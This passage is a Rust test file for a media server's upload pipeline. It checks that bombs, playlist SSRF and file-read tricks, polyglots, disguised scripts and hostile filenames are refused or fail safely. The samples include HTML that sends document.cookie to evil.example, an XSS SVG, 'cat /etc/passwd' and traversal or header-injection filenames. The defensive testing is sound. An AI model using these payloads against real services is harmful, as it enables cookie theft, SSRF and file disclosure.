//! Hostile and broken input, as a generated corpus run against a real server.
//!
//! Media: every accepted format truncated and bit-flipped (fixed xorshift seeds, so every run
//! flips the same bits); pixel and decompression bombs; HLS and ffconcat playlists naming
//! `/etc/passwd` and a loopback port, bare and behind each container's magic number; scripts,
//! pages and executables renamed as media; polyglots; empty files. Filenames: traversal, NUL,
//! control and bidi characters, 300 Chinese characters, absolute and Windows paths. API: deeply
//! nested and 100 MB JSON, wrong types for every field of a new work, invalid UTF-8 in bodies
//! and query strings, overlong headers and cookies, junk in every query parameter of the work
//! list and the search, 10 000-character and operator-only searches.
//!
//! Every case ends in a 4xx with a stable kebab-case code, or (for media the sniffer accepts)
//! in a job that ends `failed` with a named reason or `ready` with derivatives that decode.
//! Never a 5xx; `/healthz` answers after each group; no connection reaches the loopback trap;
//! no byte of `/etc/passwd` or of an appended payload reaches a derivative; nothing is written
//! outside the media folder; and the test process's own peak RSS stays bounded, since all
//! decoding happens in `microcat media-worker` children.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use std::time::Duration;

use actix_web::http::header::ContentDisposition;
use awc::http::Method;
use image::GenericImageView;
use microcat::config::Settings;
use microcat::domain::user::Role;
use serde_json::Value;

use crate::helpers::{Reply, Session, TestApp, work_json};
use crate::{fixtures, forged};

// ---------------------------------------------------------------------------------------------
// Media cases
// ---------------------------------------------------------------------------------------------

/// What a hostile upload may end as. None of them is a 5xx.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// Refused at upload: a 4xx with a stable code.
    Rejected,
    /// Refused at upload, or accepted and its job ends `failed` with a named reason; never
    /// `ready` (bombs over the limits, playlists dressed as a container).
    NotReady,
    /// Refused, failed, or `ready` with derivatives that decode: damage a decoder may conceal.
    RejectedOrFailed,
}

/// One hostile upload.
struct Case {
    name: String,
    filename: String,
    bytes: Vec<u8>,
    expect: Expect,
}

fn case(name: impl Into<String>, filename: &str, bytes: Vec<u8>, expect: Expect) -> Case {
    Case { name: name.into(), filename: filename.to_owned(), bytes, expect }
}

/// A valid file of one accepted format, which the damaged variants are made from.
struct Source {
    format: &'static str,
    extension: &'static str,
    bytes: Vec<u8>,
}

/// One valid file per accepted format: four pictures, six film containers, two audio ones.
fn sources() -> Vec<Source> {
    let mut sources = vec![
        Source { format: "jpeg", extension: "jpg", bytes: fixtures::jpeg_with_orientation(64, 48, 1) },
        Source { format: "png", extension: "png", bytes: fixtures::png(64, 48) },
        Source { format: "gif", extension: "gif", bytes: fixtures::animated_gif() },
        Source { format: "webp", extension: "webp", bytes: fixtures::webp(64, 48) },
    ];
    sources.extend(films().files.iter().map(|(format, extension, path)| Source {
        format,
        extension,
        bytes: fixtures::read(path),
    }));
    sources
}

/// Every format cut short: just past its magic number, in the middle, and one byte before the
/// end (a missing trailer or index).
fn truncations(sources: &[Source]) -> Vec<Case> {
    let mut cases = Vec::new();
    for source in sources {
        let length = source.bytes.len();
        for cut in [32, length / 2, length - 1] {
            let cut = cut.min(length - 1);
            cases.push(case(
                format!("{} cut to {cut} of {length} bytes", source.format),
                &format!("truncated.{}", source.extension),
                source.bytes[..cut].to_vec(),
                Expect::RejectedOrFailed,
            ));
        }
    }
    cases
}

/// Seeds of the bit-flip generator: fixed, so a failure can be replayed.
const FLIP_SEEDS: [u64; 3] = [1, 2, 3];
/// One flipped bit per this many bytes: damage a decoder may conceal, and heavy damage.
const FLIP_EVERY: [usize; 2] = [4096, 256];
/// Bytes left intact at the start, so the sniffer still recognises the format and the damage
/// reaches the decoders instead of stopping at the door.
const INTACT_PREFIX: usize = 16;

/// Every format with bits flipped at xorshift-chosen places past its magic number.
fn bit_flips(sources: &[Source]) -> Vec<Case> {
    let mut cases = Vec::new();
    for source in sources {
        for seed in FLIP_SEEDS {
            for every in FLIP_EVERY {
                let (bytes, flips) = flipped(&source.bytes, seed, every);
                cases.push(case(
                    format!("{} with {flips} flipped bits (seed {seed}, one per {every} bytes)", source.format),
                    &format!("flipped.{}", source.extension),
                    bytes,
                    Expect::RejectedOrFailed,
                ));
            }
        }
    }
    cases
}

/// A tiny deterministic generator (xorshift64): no new crates, the same bits every run.
struct XorShift(u64);

impl XorShift {
    fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn below(&mut self, bound: usize) -> usize {
        (self.next_u64() % bound as u64) as usize
    }
}

/// `bytes` with one bit flipped per `every` bytes (at least one); returns the flip count.
fn flipped(bytes: &[u8], seed: u64, every: usize) -> (Vec<u8>, usize) {
    let mut damaged = bytes.to_vec();
    let mut random = XorShift::new(seed * 1_000_003 + every as u64);
    let flips = (damaged.len() / every).max(1);
    let span = damaged.len() - INTACT_PREFIX;
    for _ in 0..flips {
        let at = INTACT_PREFIX + random.below(span);
        damaged[at] ^= 1u8 << random.below(8);
    }
    (damaged, flips)
}

/// Headers claiming enormous pictures or films, and small files that inflate to hundreds of
/// megabytes. The claims over the limits must never end `ready`; the bombs within them may,
/// as long as the worker child (not the server) pays for the memory.
fn bombs() -> Vec<Case> {
    let films = films();
    let mp4 = fixtures::read(&films.mp4);
    let zeros = forged::zlib_of_zeros(200 * 1024 * 1024);
    let ztxt = [&b"Comment\0\0"[..], &zeros[..]].concat();
    let iccp = [&b"icc\0\0"[..], &zeros[..]].concat();
    vec![
        case("png claiming 100000x100000", "bomb.png", fixtures::png_claiming(100_000, 100_000), Expect::NotReady),
        case("jpeg claiming 65535x65535", "bomb.jpg", forged::jpeg_claiming(65_535, 65_535), Expect::NotReady),
        case("gif claiming a 65535x65535 screen", "bomb.gif", forged::gif_claiming(65_535, 65_535), Expect::NotReady),
        case("lossless webp claiming 16384x16384", "bomb.webp", forged::webp_claiming_largest(), Expect::NotReady),
        case(
            "webp canvas claiming 16777216x16777216",
            "canvas.webp",
            forged::webp_canvas_claiming(1 << 24),
            Expect::NotReady,
        ),
        case(
            "png with 200 MB of zeros in zTXt",
            "ztxt.png",
            forged::png_with_chunk(b"zTXt", &ztxt),
            Expect::RejectedOrFailed,
        ),
        case(
            "png with 200 MB of zeros in iCCP",
            "iccp.png",
            forged::png_with_chunk(b"iCCP", &iccp),
            Expect::RejectedOrFailed,
        ),
        case("png of 25 megapixels in 470 KB", "idat.png", forged::png_of_zeros(5000, 5000), Expect::RejectedOrFailed),
        case("mp4 claiming 65535x65535 frames", "huge.mp4", forged::mp4_claiming_frame(&mp4), Expect::RejectedOrFailed),
        case(
            "raw-video mov claiming 65535x65535 frames",
            "huge.mov",
            forged::mp4_claiming_frame(&fixtures::read(&films.raw_mov)),
            Expect::NotReady,
        ),
        case("mp4 claiming 10 hours", "ten-hours.mp4", forged::mp4_claiming_duration(&mp4, 36_000), Expect::NotReady),
    ]
}

/// Playlists naming a file outside media/ and a loopback port: refused when bare, and when
/// behind a container's magic number (so the sniffer accepts them) stopped by the demuxer
/// allow-list, never followed.
fn playlists(port: u16) -> Vec<Case> {
    let hls_file =
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n";
    let hls_http = format!(
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI=\"http://127.0.0.1:{port}/key\"\n#EXTINF:10.0,\nhttp://127.0.0.1:{port}/segment.ts\n#EXT-X-ENDLIST\n"
    );
    let concat_file = "ffconcat version 1.0\nfile '/etc/passwd'\nfile 'file:/etc/shadow'\n";
    let concat_http = format!("ffconcat version 1.0\nfile 'http://127.0.0.1:{port}/clip.mp4'\n");
    let sdp = format!("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n");
    let mut cases = vec![
        case("hls playlist of file:///etc/passwd", "playlist.mp4", hls_file.as_bytes().to_vec(), Expect::Rejected),
        case("hls playlist of a loopback url", "live.mp4", hls_http.as_bytes().to_vec(), Expect::Rejected),
        case("hls playlist named .m3u8", "live.m3u8", hls_http.as_bytes().to_vec(), Expect::Rejected),
        case("ffconcat list of /etc/passwd", "list.mp4", concat_file.as_bytes().to_vec(), Expect::Rejected),
        case("ffconcat list of a loopback url", "list.webm", concat_http.as_bytes().to_vec(), Expect::Rejected),
        case("sdp session on a loopback port", "stream.mp4", sdp.into_bytes(), Expect::Rejected),
    ];
    for (container, extension, magic) in container_magic_numbers() {
        for (kind, text) in [("hls", hls_http.as_str()), ("ffconcat", concat_file)] {
            cases.push(case(
                format!("{kind} playlist behind a {container} header"),
                &format!("playlist.{extension}"),
                [&magic[..], text.as_bytes()].concat(),
                Expect::NotReady,
            ));
        }
    }
    cases
}

/// The first bytes the sniffer needs to accept each container: enough to pass the door, with
/// nothing a demuxer could play behind them.
fn container_magic_numbers() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    vec![
        ("mp4", "mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp41".to_vec()),
        ("mov", "mov", b"\0\0\0\x14ftypqt  \0\0\0\0qt  ".to_vec()),
        ("matroska", "mkv", b"\x1a\x45\xdf\xa3\x42\x82\x88matroska".to_vec()),
        ("webm", "webm", b"\x1a\x45\xdf\xa3\x42\x82\x84webm".to_vec()),
        ("avi", "avi", b"RIFF\x40\0\0\0AVI LIST".to_vec()),
        ("flv", "flv", b"FLV\x01\x01\0\0\0\x09\0\0\0\0".to_vec()),
        ("mp3 id3", "mp3", b"ID3\x04\0\0\0\0\0\0".to_vec()),
        ("aac adts", "aac", b"\xff\xf1\x50\x80".to_vec()),
    ]
}

/// Scripts, pages, documents and executables under media names, plus empty and tiny files:
/// all refused by their bytes.
fn disguised() -> Vec<Case> {
    let elf =
        std::fs::read("/bin/true").unwrap_or_else(|_| b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec());
    let svg = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(document.cookie)</script></svg>";
    let html = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>";
    let exe =
        [&b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"[..], &b"This program cannot be run in DOS mode."[..]].concat();
    let pdf = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
    let wav = b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x80\x3e\0\0\x02\0\x10\0data\0\0\0\0";
    let avif = b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf";
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("<html><script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    vec![
        case("svg with a script, named .jpg", "drawing.jpg", svg.to_vec(), Expect::Rejected),
        case("html page named .jpg", "page.jpg", html.to_vec(), Expect::Rejected),
        case("javascript named .png", "app.png", b"alert(document.domain);//".to_vec(), Expect::Rejected),
        case("elf executable named .mp4", "true.mp4", elf, Expect::Rejected),
        case("windows executable named .jpg", "setup.jpg", exe, Expect::Rejected),
        case("zip archive named .webp", "archive.webp", forged::zip_with("a.txt", b"hello"), Expect::Rejected),
        case("pdf named .jpg", "scan.jpg", pdf.to_vec(), Expect::Rejected),
        case("shell script named .mp4", "run.mp4", b"#!/bin/sh\ncat /etc/passwd\n".to_vec(), Expect::Rejected),
        case("wav audio named .mp3", "voice.mp3", wav.to_vec(), Expect::Rejected),
        case("heic header only", "photo.heic", fixtures::heic_header(), Expect::RejectedOrFailed),
        case("avif photo named .jpg", "photo.jpg", avif.to_vec(), Expect::Rejected),
        case("utf-16 html named .gif", "page.gif", utf16, Expect::Rejected),
        case("empty file", "empty.jpg", Vec::new(), Expect::Rejected),
        case("one byte", "one.jpg", vec![0xFF], Expect::Rejected),
        case("4 KiB of zeros", "zeros.mp4", vec![0; 4096], Expect::Rejected),
    ]
}

/// Files that are two things at once. A real picture or film with a payload appended may be
/// processed; a payload behind a bare magic number must fail. Either way the original is served
/// only as the sniffed type with `nosniff`, and the payload never reaches a derivative.
fn polyglots() -> Vec<Case> {
    let mp4 = fixtures::read(&films().mp4);
    let photo = fixtures::jpeg(48, 32);
    let jar = forged::zip_with("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n");
    let page = b"<html><script>document.location='http://evil.example/?'+document.cookie</script></html>";
    vec![
        case("jpeg with a zip appended", "photo.jpg", [&photo[..], &jar[..]].concat(), Expect::RejectedOrFailed),
        case(
            "gif with a jar appended (gifar)",
            "avatar.gif",
            [&fixtures::animated_gif()[..], &jar[..]].concat(),
            Expect::RejectedOrFailed,
        ),
        case("jpeg with html appended", "photo.jpg", [&photo[..], &page[..]].concat(), Expect::RejectedOrFailed),
        case(
            "png followed by an mp4",
            "cover.png",
            [&fixtures::png(48, 32)[..], &mp4[..]].concat(),
            Expect::RejectedOrFailed,
        ),
        case("mp4 with a zip appended", "film.mp4", [&mp4[..], &jar[..]].concat(), Expect::RejectedOrFailed),
        case("html behind a jpeg marker", "page.jpg", [&b"\xff\xd8\xff\xe0"[..], &page[..]].concat(), Expect::NotReady),
        case(
            "html behind a png signature",
            "page.png",
            [&b"\x89PNG\r\n\x1a\n"[..], &page[..]].concat(),
            Expect::NotReady,
        ),
        case(
            "zip behind a webp header",
            "archive.webp",
            [&b"RIFF\0\0\0\0WEBPVP8L"[..], &jar[..]].concat(),
            Expect::NotReady,
        ),
        case("script behind a gif signature", "x.gif", b"GIF89a=1;alert(document.cookie)//".to_vec(), Expect::NotReady),
    ]
}

// ---------------------------------------------------------------------------------------------
// Films of every container (the forged files are in `fixtures`)
// ---------------------------------------------------------------------------------------------

/// Tiny films in every accepted container, made once per run by Debian's ffmpeg: 2 s of
/// 128×96 at 10 fps keep every processing job short.
struct Films {
    _dir: tempfile::TempDir,
    /// Format name, extension and file of each container and audio format.
    files: Vec<(&'static str, &'static str, PathBuf)>,
    /// H.264 and AAC in MP4, moov at the end.
    mp4: PathBuf,
    /// Uncompressed RGB in MOV: the only frame size is the one the sample entry claims.
    raw_mov: PathBuf,
}

fn films() -> &'static Films {
    static FILMS: OnceLock<Films> = OnceLock::new();
    FILMS.get_or_init(|| {
        let dir = tempfile::tempdir().expect("temp dir");
        let at = |name: &str| dir.path().join(name);
        let card = ["-f", "lavfi", "-i", "testsrc2=size=128x96:rate=10:duration=2"];
        let x264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-g", "10"];
        let mp4 = at("film.mp4");
        let mut args = card.to_vec();
        args.extend(["-f", "lavfi", "-i", "sine=frequency=440:duration=2"]);
        args.extend(x264);
        args.extend(["-c:a", "aac", "-shortest"]);
        fixtures::ffmpeg(&args, &mp4);
        let mut args = card.to_vec();
        args.extend(x264);
        args.extend(["-f", "mov"]);
        fixtures::ffmpeg(&args, &at("film.mov"));
        let mut args = card.to_vec();
        args.extend(["-c:v", "libvpx", "-deadline", "realtime", "-cpu-used", "8", "-b:v", "200k"]);
        fixtures::ffmpeg(&args, &at("film.webm"));
        fixtures::ffmpeg(&["-i", mp4.to_str().expect("utf-8 temp path"), "-c", "copy"], &at("film.mkv"));
        let mut args = card.to_vec();
        args.extend(["-c:v", "mpeg4"]);
        fixtures::ffmpeg(&args, &at("film.avi"));
        let mut args = card.to_vec();
        args.extend(["-c:v", "flv"]);
        fixtures::ffmpeg(&args, &at("film.flv"));
        let tone = ["-f", "lavfi", "-i", "sine=frequency=300:duration=1"];
        let mut args = tone.to_vec();
        args.extend(["-c:a", "aac"]);
        fixtures::ffmpeg(&args, &at("audio.m4a"));
        let mut args = tone.to_vec();
        args.extend(["-c:a", "libmp3lame"]);
        fixtures::ffmpeg(&args, &at("audio.mp3"));
        let raw_video = ["-f", "lavfi", "-i", "testsrc2=size=16x16:rate=5:duration=1", "-c:v", "rawvideo"];
        let mut args = raw_video.to_vec();
        args.extend(["-pix_fmt", "rgb24", "-f", "mov"]);
        fixtures::ffmpeg(&args, &at("raw.mov"));
        let files = vec![
            ("mp4", "mp4", mp4.clone()),
            ("mov", "mov", at("film.mov")),
            ("webm", "webm", at("film.webm")),
            ("mkv", "mkv", at("film.mkv")),
            ("avi", "avi", at("film.avi")),
            ("flv", "flv", at("film.flv")),
            ("m4a", "m4a", at("audio.m4a")),
            ("mp3", "mp3", at("audio.mp3")),
        ];
        Films { files, mp4, raw_mov: at("raw.mov"), _dir: dir }
    })
}

// ---------------------------------------------------------------------------------------------
// Running media cases
// ---------------------------------------------------------------------------------------------

/// Settings for the media corpus: one attempt per job (a hostile file fails at once instead of
/// being retried with backoff) and a short wall clock, so a file that hangs a decoder costs
/// seconds, not minutes.
fn hostile_media_settings(settings: &mut Settings) {
    settings.job_max_attempts = 1;
    settings.media_timeout_secs = 20;
}

async fn film_work(app: &TestApp) -> (Session, String) {
    let author = app.user_with_roles("author", &[Role::Contributor]).await;
    let work = app.create_work(&author, work_json("micro_film", "反诈宣传片")).await;
    (author, work["id"].as_str().expect("work id").to_owned())
}

/// Uploads a group, waits for the job of every accepted upload, checks each outcome, then that
/// the server is healthy and left nothing in its temp folder. Returns the number of cases.
async fn run_media_group(app: &TestApp, author: &Session, work: &str, group: &str, cases: &[Case]) -> usize {
    let mut accepted = Vec::new();
    for case in cases {
        let reply = app.upload(author, work, &case.filename, &case.bytes, None).await;
        if reply.status == 201 {
            assert_ne!(case.expect, Expect::Rejected, "{group}: {}: accepted: {}", case.name, reply.text());
            accepted.push((case, reply.json()["id"].as_str().expect("media id").to_owned()));
        } else {
            assert_refused(&reply, &format!("{group}: {}", case.name));
        }
    }
    for (case, id) in accepted {
        // Its preview too: a transcode still running would hold a temp folder.
        let media = settled(app, author, &id).await;
        check_processed(app, author, case, &media).await;
    }
    app.assert_healthy().await;
    assert_eq!(app.temp_entries(), 0, "{group}: temp files left behind");
    cases.len()
}

/// Waits until processing of a medium and of its preview (if one is made) have ended.
async fn settled(app: &TestApp, session: &Session, media_id: &str) -> Value {
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    loop {
        let media = app.processed(session, media_id).await;
        if !matches!(media["preview"]["status"].as_str(), Some("pending" | "processing")) {
            return media;
        }
        assert!(std::time::Instant::now() < deadline, "preview of {media_id} still being made: {media}");
        actix_web::rt::time::sleep(Duration::from_millis(100)).await;
    }
}

/// A stable code clients can match on: non-empty kebab-case.
fn is_stable_code(code: &str) -> bool {
    !code.is_empty()
        && !code.starts_with('-')
        && !code.ends_with('-')
        && code.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
}

/// A 4xx carrying the JSON envelope with a stable code.
fn assert_refused(reply: &Reply, name: &str) {
    assert!((400..500).contains(&reply.status), "{name}: expected a 4xx, got {}: {}", reply.status, reply.text());
    let code = reply.error_code();
    assert!(is_stable_code(&code), "{name}: code {code:?} is not kebab-case");
}

/// A processed upload ended `failed` with a named reason, or `ready` (when the case allows)
/// with metadata in bounds and derivatives that decode; its original is served back as is.
async fn check_processed(app: &TestApp, session: &Session, case: &Case, media: &Value) {
    let name = &case.name;
    match media["status"].as_str() {
        Some("failed") => {
            let code = media["error"]["code"].as_str().unwrap_or_default();
            assert!(is_stable_code(code), "{name}: failed without a named reason: {media}");
            assert!(!media["error"]["message"].as_str().unwrap_or_default().is_empty(), "{name}: {media}");
        }
        Some("ready") => {
            assert_eq!(case.expect, Expect::RejectedOrFailed, "{name}: must not end ready: {media}");
            check_ready(app, session, name, media).await;
        }
        other => panic!("{name}: unexpected status {other:?}: {media}"),
    }
    check_original(app, session, case, media).await;
}

/// Bytes that would prove a file outside media/ or an appended payload reached a derivative.
const LEAK_MARKERS: [&[u8]; 3] = [b"root:x:0:0", b"<script", b"PK\x03\x04\x14\0"];

fn assert_no_leak(name: &str, url: &str, body: &[u8]) {
    for marker in LEAK_MARKERS {
        let leaked = body.windows(marker.len()).any(|window| window == marker);
        assert!(!leaked, "{name}: {url} contains {:?}", String::from_utf8_lossy(marker));
    }
}

/// A derivative's bytes: served, and free of leaked content.
async fn derivative(app: &TestApp, session: &Session, name: &str, url: &str) -> Vec<u8> {
    let reply = app.fetch(url, session, &[]).await;
    assert_eq!(reply.status, 200, "{name}: {url}");
    assert_no_leak(name, url, &reply.body);
    reply.body
}

/// A `ready` medium: sizes and duration within what the server accepts, every picture
/// derivative a decodable JPEG within its box, the storyboard map WebVTT.
async fn check_ready(app: &TestApp, session: &Session, name: &str, media: &Value) {
    for field in ["width", "height"] {
        if let Some(pixels) = media[field].as_i64() {
            assert!((1..=16_384).contains(&pixels), "{name}: {field} {pixels} is beyond any accepted frame");
        }
    }
    if let Some(duration) = media["duration_ms"].as_i64() {
        assert!(duration <= 3 * 3600 * 1000, "{name}: duration {duration} ms is over the limit");
    }
    let pictures = [
        (&media["thumbnails"]["small"], 320, 320),
        (&media["thumbnails"]["large"], 1280, 1280),
        (&media["poster"], 1280, 1280),
        // Ten 160 px columns; rows of tiles at most 640 px high, at most ten rows.
        (&media["storyboard"]["image"], 1600, 6400),
    ];
    for (url, widest, tallest) in pictures {
        let Some(url) = url.as_str() else { continue };
        let body = derivative(app, session, name, url).await;
        let picture = image::load_from_memory(&body).unwrap_or_else(|error| panic!("{name}: {url}: {error}"));
        let (width, height) = picture.dimensions();
        assert!((1..=widest).contains(&width) && (1..=tallest).contains(&height), "{name}: {url} is {width}x{height}");
    }
    if let Some(url) = media["storyboard"]["vtt"].as_str() {
        let body = derivative(app, session, name, url).await;
        assert!(body.starts_with(b"WEBVTT"), "{name}: {url} is not WebVTT");
    }
}

/// The original comes back byte for byte, typed as what the sniffer found and with
/// `nosniff`, so a polyglot is never rendered as the page or script it hides.
async fn check_original(app: &TestApp, session: &Session, case: &Case, media: &Value) {
    let name = &case.name;
    let url = media["original_url"].as_str().expect("original url");
    let reply = app.fetch(url, session, &[]).await;
    assert_eq!(reply.status, 200, "{name}: original");
    assert!(reply.body == case.bytes, "{name}: the original came back changed");
    let served = reply.header("content-type").unwrap_or_default();
    assert_eq!(Some(served.as_str()), media["content_type"].as_str(), "{name}");
    let media_class = ["image/", "video/", "audio/"].iter().any(|class| served.starts_with(class));
    assert!(media_class, "{name}: original served as {served}");
    assert_eq!(reply.header("x-content-type-options").as_deref(), Some("nosniff"), "{name}");
}

/// Peak resident memory of this test process, in MiB. The server runs in-process; decoding
/// runs in child processes, so hostile files must not move this much.
fn peak_rss_mib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("procfs");
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).expect("VmHWM in /proc/self/status");
    line.split_whitespace().nth(1).and_then(|kib| kib.parse::<u64>().ok()).expect("VmHWM in kB") / 1024
}

/// Prints the cases tried and the peak RSS, and holds the peak under a generous bound.
fn report(corpus: &str, cases: usize) {
    let peak = peak_rss_mib();
    eprintln!("hostile corpus ({corpus}): {cases} cases, peak RSS {peak} MiB");
    assert!(peak < 1024, "{corpus}: peak RSS {peak} MiB: decoding belongs in the worker children");
}

#[actix_web::test]
async fn truncated_and_bit_flipped_files_of_every_accepted_format_are_refused_or_fail_with_a_named_reason() {
    let app = TestApp::spawn_with(hostile_media_settings).await;
    let (author, work) = film_work(&app).await;
    let sources = sources();
    let mut tried = 0;
    for (group, cases) in [("truncations", truncations(&sources)), ("bit flips", bit_flips(&sources))] {
        tried += run_media_group(&app, &author, &work, group, &cases).await;
    }
    assert!(tried >= 80, "the damaged-media corpus has {tried} cases");
    report("damaged media", tried);
}

#[actix_web::test]
async fn bombs_playlists_disguised_files_and_polyglots_never_reach_outside_the_media_folder() {
    // A loopback port the playlists name: nothing may ever connect to it.
    let trap = std::net::TcpListener::bind("127.0.0.1:0").expect("bind a loopback trap");
    trap.set_nonblocking(true).expect("non-blocking trap");
    let port = trap.local_addr().expect("trap address").port();
    let app = TestApp::spawn_with(hostile_media_settings).await;
    let (author, work) = film_work(&app).await;
    let groups =
        [("bombs", bombs()), ("playlists", playlists(port)), ("disguised", disguised()), ("polyglots", polyglots())];
    let mut tried = 0;
    for (group, cases) in groups {
        tried += run_media_group(&app, &author, &work, group, &cases).await;
    }
    match trap.accept() {
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!("a playlist made the server connect to the loopback trap (from {peer})"),
        Err(error) => panic!("the loopback trap failed: {error}"),
    }
    report("bombs, playlists, disguised files, polyglots", tried);
}

// ---------------------------------------------------------------------------------------------
// Filenames
// ---------------------------------------------------------------------------------------------

/// One hostile original filename: the raw bytes of the multipart `Content-Disposition`
/// parameters after `name="file"; `, and the stored name when the sanitised result is certain.
struct NameCase {
    name: &'static str,
    parameters: Vec<u8>,
    kept: Option<&'static str>,
}

fn named(name: &'static str, parameters: Vec<u8>, kept: Option<&'static str>) -> NameCase {
    NameCase { name, parameters, kept }
}

/// `filename="…"` with the raw bytes inside the quotes, as browsers send them.
fn quoted(raw: &[u8]) -> Vec<u8> {
    [&b"filename=\""[..], raw, &b"\""[..]].concat()
}

/// Traversal, absolute and Windows paths, NUL, control, bidi and zero-width characters, header
/// injection, invalid UTF-8, very long names: each either refused with a clean 4xx or kept as
/// sanitised metadata.
fn filenames() -> Vec<NameCase> {
    let chinese = format!("{}.jpg", "微".repeat(300));
    let long_ascii = format!("{}.jpg", "a".repeat(10_000));
    vec![
        named("unix traversal", quoted(b"../../evil.jpg"), Some("evil.jpg")),
        named("deep traversal to /tmp", quoted(b"../../../../../../../../tmp/evil.jpg"), Some("evil.jpg")),
        // Backslashes escape inside a quoted string: sent raw and escaped.
        named("windows traversal", quoted(b"..\\..\\evil.jpg"), None),
        named("escaped windows traversal", quoted(b"..\\\\..\\\\evil.jpg"), None),
        named("absolute path", quoted(b"/etc/passwd"), Some("passwd")),
        named("windows absolute path", quoted(b"C:\\\\Windows\\\\System32\\\\evil.jpg"), None),
        named("unc path", quoted(b"\\\\\\\\server\\\\share\\\\evil.jpg"), None),
        named("nul byte", quoted(b"photo\0.jpg"), None),
        named("control characters", quoted(b"a\x01\x07\x1b[31mred.jpg"), None),
        named("header injection", quoted(b"evil.jpg\"\r\nContent-Type: text/html\r\nX-Injected: 1"), None),
        named("right-to-left override", quoted("invoice\u{202E}gpj.exe".as_bytes()), Some("invoicegpj.exe")),
        named(
            "zero-width characters and bom",
            quoted("\u{FEFF}pho\u{200B}to\u{200F}.jpg".as_bytes()),
            Some("photo.jpg"),
        ),
        named("300 chinese characters", quoted(chinese.as_bytes()), None),
        named("10 000 ascii characters", quoted(long_ascii.as_bytes()), None),
        named("dots only", quoted(b"...."), None),
        named("empty", quoted(b""), None),
        named("extended value with traversal", b"filename*=UTF-8''..%2F..%2Fevil.jpg".to_vec(), None),
        named("extended value with nul", b"filename*=UTF-8''evil%00.jpg".to_vec(), None),
        named("invalid utf-8", quoted(b"\xff\xfe.jpg"), None),
        named("escaped quote and semicolon", quoted(b"a\\\";b.jpg"), None),
        named("percent-encoded traversal", quoted(b"..%2F..%2Fevil.jpg"), None),
        named("windows device name with trailing dot", quoted(b"CON.jpg. "), None),
        named("slash lookalikes", quoted("..\u{2215}..\u{2215}evil.jpg".as_bytes()), None),
        named("two filenames", [quoted(b"a.jpg"), b"; ".to_vec(), quoted(b"../../evil.jpg")].concat(), None),
        named("emoji and chinese (kept as is)", quoted("🎬 微电影 final.jpg".as_bytes()), Some("🎬 微电影 final.jpg")),
    ]
}

/// Uploads `bytes` with raw `Content-Disposition` parameters (the `multipart` helper formats
/// the filename as text, which cannot carry NUL, CR LF or invalid UTF-8).
async fn upload_with_parameters(
    app: &TestApp,
    session: &Session,
    work: &str,
    parameters: &[u8],
    bytes: &[u8],
) -> Reply {
    let boundary = "microcat-hostile-boundary-3c9a";
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; ").into_bytes();
    body.extend_from_slice(parameters);
    body.extend_from_slice(b"\r\nContent-Type: application/octet-stream\r\n\r\n");
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let bearer = format!("Bearer {}", session.token);
    let headers = [("authorization", bearer.as_str()), ("content-type", content_type.as_str())];
    app.raw(Method::POST, &format!("/api/v1/works/{work}/media"), &headers, body).await
}

/// Characters that reorder or hide text, as the server's sanitiser knows them.
fn is_invisible_or_bidi(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
}

/// The stored name is absent or a single display-safe segment of at most 255 bytes.
fn check_kept_filename(case: &NameCase, media: &Value) {
    let name = case.name;
    let kept = &media["original_filename"];
    if let Some(expected) = case.kept {
        assert_eq!(kept.as_str(), Some(expected), "{name}: {media}");
    }
    let Some(kept) = kept.as_str() else {
        assert!(kept.is_null(), "{name}: {media}");
        return;
    };
    assert!(!kept.is_empty() && kept.len() <= 255, "{name}: {} bytes kept", kept.len());
    assert!(!kept.contains(['/', '\\']), "{name}: a path separator survived: {kept:?}");
    assert!(!kept.chars().any(|c| c.is_control() || is_invisible_or_bidi(c)), "{name}: {kept:?}");
    assert_eq!(kept.trim(), kept, "{name}: untrimmed {kept:?}");
}

/// The original is served with a `Content-Disposition` that is visible ASCII, parses, shows a
/// photo inline and carries exactly the stored name (RFC 5987 encoded).
async fn check_disposition(app: &TestApp, session: &Session, name: &str, media: &Value) {
    let url = media["original_url"].as_str().expect("original url");
